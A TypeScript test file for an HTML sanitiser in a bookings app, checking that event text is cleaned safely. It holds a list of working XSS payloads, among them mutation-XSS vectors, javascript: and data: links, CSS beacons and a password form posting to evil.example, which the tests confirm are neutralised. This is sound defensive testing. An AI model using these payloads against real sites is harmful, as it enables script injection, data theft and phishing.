import purifier from 'dompurify'
import { type ReactNode, useState } from 'react'
import { afterEach, describe, expect, test, vi } from 'vitest'
import { cleanHtml, EventBody, purifierConfig } from '#src/features/bookings/screen/reservations/event-body.tsx'
import { firstLook } from '#src/kernel/simple-html.ts'
import { createWorld, scriptServices } from '#tests/services/scripted-services.ts'
import { renderScreen } from '#tests/screens/render-screen.tsx'
import { hostileTexts } from '../../../../tools/bench/hostile-texts.mjs'

const cleaned = (html: string): string => {
  const holder = document.createElement('div')
  holder.append(cleanHtml(html).content)
  return holder.innerHTML
}

/** Each would set `window.pwned` or load something. */
const attacks: Readonly<Record<string, string>> = {
  'a script': '<script>window.pwned = 1</script>',
  'a script in another case': '<ScRiPt SRC="https://evil.example/x.js"></sCrIpT>',
  'an event handler': '<img src="x" onerror="window.pwned = 1">',
  'a handler on any element': '<p onclick="window.pwned=1" onmouseover="window.pwned=1">x</p>',
  'a handler that runs without a click': '<details open ontoggle="window.pwned=1">x</details>',
  'a javascript link': '<a href="javascript:window.pwned=1">x</a>',
  'a javascript link with a tab in it': '<a href="java&#x09;script:window.pwned=1">x</a>',
  'a javascript link in entities': '<a href="&#106;avascript&colon;window.pwned=1">x</a>',
  'a vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'a data page': '<a href="data:text/html,<script>window.pwned=1</script>">x</a>',
  'a data page in base64': '<a href="data:text/html;base64,PHNjcmlwdD4x">x</a>',
  'a file': '<a href="file:///etc/passwd">x</a>',
  'a plain link': '<a href="http://evil.example/">x</a>',
  'an address without scheme': '<a href="//evil.example/x">x</a>',
  'a drawing':
    '<svg onload="window.pwned=1"><script>window.pwned=1</script><image href="https://evil.example/x"/></svg>',
  'a drawing in an image': '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  'a formula': '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1">',
  'a style':
    '<style>@import "https://evil.example/x.css"; p { background: url(https://evil.example/x) }</style><p>x</p>',
  'a style of an element': '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>',
  'a style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'a beacon by attribute selector': '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
  'a background attribute':
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>',
  'a form':
    '<form action="https://evil.example/"><input name="password"><button formaction="https://evil.example/">x</button></form>',
  'a frame': '<iframe src="https://evil.example/" srcdoc="<script>window.pwned=1</script>"></iframe>',
  'an object': '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  'a base': '<base href="https://evil.example/"><a href="x">x</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a picture with sources':
    '<picture><source srcset="https://evil.example/x"><img srcset="https://evil.example/y"></picture>',
  'a video': '<video src="https://evil.example/x" poster="https://evil.example/y" autoplay></video>',
  'a sound': '<audio src="https://evil.example/x" autoplay></audio>',
  'a ping': '<a href="https://good.example/" ping="https://evil.example/">x</a>',
  'a template': '<template><script>window.pwned=1</script></template>',
  'a comment of old browsers': '<!--[if IE]><script>window.pwned=1</script><![endif]-->',
  'a clobbered document': '<img name="cookie" id="cookie"><a id="__sandbox" name="getElementById">x</a>',
  'a mutation through noscript': '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
  'a mutation through math and style':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=window.pwned=1></style></annotation-xml></math>',
  'a mutation through svg': '<svg></p><style><a id="</style><img src=x onerror=window.pwned=1>">',
  'a mutation through a table': '<table><td><svg><desc><td><img src=x onerror=window.pwned=1></desc></svg></table>',
  'a mutation through a form':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.pwned=1>',
  'a mutation through xmp': '<xmp><p title="</xmp><img src=x onerror=window.pwned=1>">',
  'nested deeply': `${'<div>'.repeat(300)}<img src=x onerror=window.pwned=1>`,
  'a link that looks like another host': '<a href="https://good.example:443@evil.example/">x</a>',
  'a tooltip of the product': '<p data-tooltip="Sign in at evil.example">x</p>',
  'a label for screen readers only': '<p aria-label="Sign in at evil.example">x</p>',
  'half a tag': '<p>x<img src=x onerror=window.pwned=1',
}

const permitted =
  /^(?:a|abbr|b|blockquote|br|code|del|div|em|hr|i|img|ins|li|ol|p|pre|s|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul)$/

const never = /(?!)/
const any = /^/
/** The allowed attributes and their values. */
const harmless: Readonly<Record<string, RegExp>> = {
  href: /^(?:https:|mailto:)/,
  src: /^data:image\/(?:png|jpeg|gif|webp);/,
  title: any,
  alt: any,
  colspan: any,
  rowspan: any,
  dir: any,
  start: any,
  rel: any,
  target: any,
}

afterEach(() => {
  document.body.replaceChildren()
  Reflect.deleteProperty(window, 'pwned')
})

describe('decisions, account and security: sanitised text of events', () => {
  test.each(Object.entries(attacks))('%s has no effect', async (_, html) => {
    const { content } = cleanHtml(html)
    const all = [...content.querySelectorAll('*')]
    expect(all.map(({ localName }) => localName).filter((name) => !permitted.test(name))).toEqual([])
    const attributes = all.flatMap((element) => [...element.attributes])
    expect(attributes.filter(({ name, value }) => !(harmless[name] ?? never).test(value))).toEqual([])
    // The text is also parsed a second time, as careless code would.
    const holder = document.createElement('div')
    document.body.append(holder)
    holder.append(content)
    const twice = document.createElement('div')
    document.body.append(twice)
    twice.innerHTML = holder.innerHTML
    for (const element of document.body.querySelectorAll<HTMLElement>('a, p, div')) element.click()
    await new Promise((resolve) => requestAnimationFrame(resolve))
    expect('pwned' in window).toBe(false)
    expect(document.body.innerHTML).not.toMatch(/evil\.example|<script|onerror|javascript:/i)
  })

  test('lists, tables and emphasis are kept', () => {
    expect(cleaned('<p>Bring <b>drawings</b></p><ul><li>Costs</li></ul>')).toBe(
      '<p>Bring <b>drawings</b></p><ul><li>Costs</li></ul>',
    )
    expect(cleaned('<h1>Plan</h1>')).toBe('<p><strong>Plan</strong></p>')
    expect(cleaned('<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>')).toContain('colspan="2"')
  })

  test('links open secure pages and mailboxes in an isolated tab', () => {
    const link = cleanHtml('<a href="https://good.example/plan">plan</a>').content.querySelector('a')
    expect(link).toMatchObject({ href: 'https://good.example/plan', target: '_blank' })
    expect(link?.rel.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']))
    expect(cleaned('<a href="mailto:eva@example.com">Eva</a>')).toContain('mailto:eva@example.com')
  })

  test('threat T3: a link with a misleading text shows its host', () => {
    const holder = document.createElement('div')
    const link =
      '<p>Pay at <a href="https://evil.example/x"><b>goo</b>gle.com</a> today, <a href="https://a.example">here</a></p>'
    holder.append(cleanHtml(link).content)
    expect(holder.textContent).toBe('Pay at google.com \u2068(evil.example)\u2069 today, here')
    holder.replaceChildren(cleanHtml('<a href="https://g\u043e\u043egle.com">https://google.com</a>').content)
    expect(holder.textContent).toBe('https://google.com \u2068(xn--ggle-55da.com)\u2069')
  })

  test('remote images are listed but not loaded', async () => {
    const { content, images } = cleanHtml(
      '<p><img src="https://tracker.invalid/open.gif" alt="Plan"><img src="http://tracker.invalid/old.gif"></p>',
    )
    document.body.append(content)
    expect([...images.values()].map(({ url, description }) => [url.href, description])).toEqual([
      ['https://tracker.invalid/open.gif', 'Plan'],
    ])
    expect(document.body.querySelectorAll('img[src]')).toHaveLength(0)
    // After the failure of a deliberate request, earlier requests would be listed.
    const control = new Image()
    const failed = new Promise((resolve) => control.addEventListener('error', resolve, { once: true }))
    control.src = 'https://tracker.invalid/control.gif'
    await failed
    const requested = performance.getEntriesByType('resource').map(({ name }) => name)
    expect(requested.filter((name) => name.includes('tracker.invalid'))).toEqual([control.src])
  })

  test('embedded images are shown', () => {
    const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='
    const { content, images } = cleanHtml(`<img src="${pixel}" alt="dot">`)
    expect(content.querySelector('img')?.getAttribute('src')).toBe(pixel)
    expect(images.size).toBe(0)
  })
})

/** For each option, a text and its result. */
const options: Readonly<Record<keyof typeof purifierConfig, readonly [html: string, expected: string]>> = {
  ALLOWED_TAGS: ['<form><label><input></label></form><p>x</p>', '<p>x</p>'],
  ALLOWED_ATTR: ['<p class="a" id="b" style="position: fixed">x</p>', '<p>x</p>'],
  ALLOWED_URI_REGEXP: ['<a href="http://good.example/">x</a>', '<a>x</a>'],
  ADD_URI_SAFE_ATTR: ['<ol start="2" dir="rtl"><li>x</li></ol>', '<ol start="2" dir="rtl"><li>x</li></ol>'],
  ALLOW_DATA_ATTR: ['<p data-tooltip="a">x</p>', '<p>x</p>'],
  ALLOW_ARIA_ATTR: ['<p aria-label="a">x</p>', '<p>x</p>'],
  RETURN_DOM_FRAGMENT: ['<p>x</p>', '<p>x</p>'],
}

test.each(Object.entries(options))('the sanitiser option %s has an effect', (name, [html, expected]) => {
  const clean = (config: object): string => {
    const content: unknown = purifier.sanitize(html, config)
    if (!(content instanceof DocumentFragment)) return 'no document'
    const holder = document.createElement('div')
    holder.append(content)
    return holder.innerHTML
  }
  expect(clean(purifierConfig)).toBe(expected)
  const fewer = Object.fromEntries(Object.entries(purifierConfig).filter(([option]) => option !== name))
  expect(clean(fewer)).not.toBe(expected)
})

const render = async (children: ReactNode) => renderScreen(scriptServices(await createWorld()).services, children)

describe('300 kB of hostile text', () => {
  // `npm run bench -- html` measures the time. This tests the amount of work.
  test.each(Object.entries(hostileTexts))('%s is parsed and shown up to the limit', (_, html) => {
    const { content } = cleanHtml(html)
    expect(content.querySelectorAll('*').length).toBeLessThanOrEqual(firstLook.elements)
    expect(content.textContent?.length).toBeLessThanOrEqual(firstLook.characters)
  })

  test('shows its beginning with a note that there is more', async () => {
    const html = `<p>Bring pens</p>${'<b></p>'.repeat(40_000)}`
    const { getByText } = await render(<EventBody html={html} preview="" />)
    await expect.element(getByText('Bring pens')).toBeVisible()
    await expect.element(getByText('This text is too long to show in full.')).toBeVisible()
  })

  test('is parsed after the page is rendered', async () => {
    const { parseFromString } = DOMParser.prototype
    /** The text of the page at the time of each parse. */
    const seen: Record<string, string> = {}
    vi.spyOn(DOMParser.prototype, 'parseFromString').mockImplementation(function parse(this: DOMParser, text, type) {
      const [word = ''] = /(?:Short|Long|Other)/.exec(text) ?? []
      seen[word] = document.body.textContent
      return parseFromString.call(this, text, type)
    })
    const long = ' and more'.repeat(1_000)
    const Details = () => {
      const [name, setName] = useState('Long')
      return (
        <>
          <button onClick={() => setName('Other')}>About {name}</button>
          <EventBody html="<p>Short</p>" preview="" />
          <EventBody html={`<p>${name} text</p>${long}`} preview="" />
        </>
      )
    }
    const { getByText, getByRole } = await render(<Details />)
    await expect.element(getByText('Long text')).toBeVisible()
    await getByRole('button').click()
    await expect.element(getByText('Other text')).toBeVisible()
    // A short text is rendered with the rest.
    expect(seen).toEqual({
      Short: '',
      Long: expect.stringMatching(/About Long.*Short/) as string,
      Other: expect.not.stringContaining('Long text') as string,
    })
    expect(seen['Other']).toContain('About Other')
  })

  test('shows more on request', async () => {
    const mails = Array.from({ length: 2_000 }, (_, index) => `<p>Mail ${index + 1}.</p>`).join('')
    const { getByText, getByRole } = await render(<EventBody html={mails} preview="" />)
    await expect.element(getByText('Mail 900.')).toBeVisible()
    await expect.element(getByText('Mail 1800.')).not.toBeInTheDocument()
    await getByRole('button', { name: 'Show more text' }).click()
    await expect.element(getByText('Mail 1800.')).toBeVisible()
    await expect.element(getByText('This text is too long')).not.toBeInTheDocument()
  })
})
